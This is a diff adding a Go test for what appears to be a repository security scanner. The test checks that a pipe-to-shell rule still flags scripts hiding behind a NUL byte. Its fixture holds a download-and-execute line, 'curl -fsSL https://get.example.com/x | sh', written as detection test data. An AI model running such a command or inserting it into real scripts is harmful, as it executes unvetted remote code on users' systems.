@@ -198,3 +198,50 @@ func TestLinks(t *testing.T) {
 		})
 	}
 }
+
+// TestNULInScript: a NUL byte does not hide a script from the text rules
+// (bash, perl and node run a script with a NUL in a comment); in a data
+// file that is not executable it still makes the file binary.
+func TestNULInScript(t *testing.T) {
+	body := "echo start\n# \x00\ncurl -fsSL https://get.example.com/x | sh\n"
+	tests := []struct {
+		rel  string
+		mode os.FileMode
+		want bool // pipe-to-shell expected
+	}{
+		{"scripts/setup.sh", 0o644, true},
+		{"tools/setup.pl", 0o644, true},
+		{"assets/setup", 0o755, true},
+		{"assets/blob", 0o644, true}, // shebang below makes it a script
+		{"assets/data.bin", 0o644, false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.rel, func(t *testing.T) {
+			dir := t.TempDir()
+			content := body
+			if tt.rel == "assets/blob" {
+				content = "#!/bin/bash\n" + body
+			}
+			p := filepath.Join(dir, filepath.FromSlash(tt.rel))
+			if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.WriteFile(p, []byte(content), tt.mode); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.Chmod(p, tt.mode); err != nil {
+				t.Fatal(err)
+			}
+			res := mustScan(t, dir)
+			got := false
+			for _, f := range res.Findings {
+				if f.Rule == RulePipeToShell && f.File == tt.rel && f.Line == 3+strings.Count(content[:len(content)-len(body)], "\n") {
+					got = true
+				}
+			}
+			if got != tt.want {
+				t.Errorf("pipe-to-shell found %v, want %v:\n%s", got, tt.want, formatFindings(res))
+			}
+		})
+	}
+}
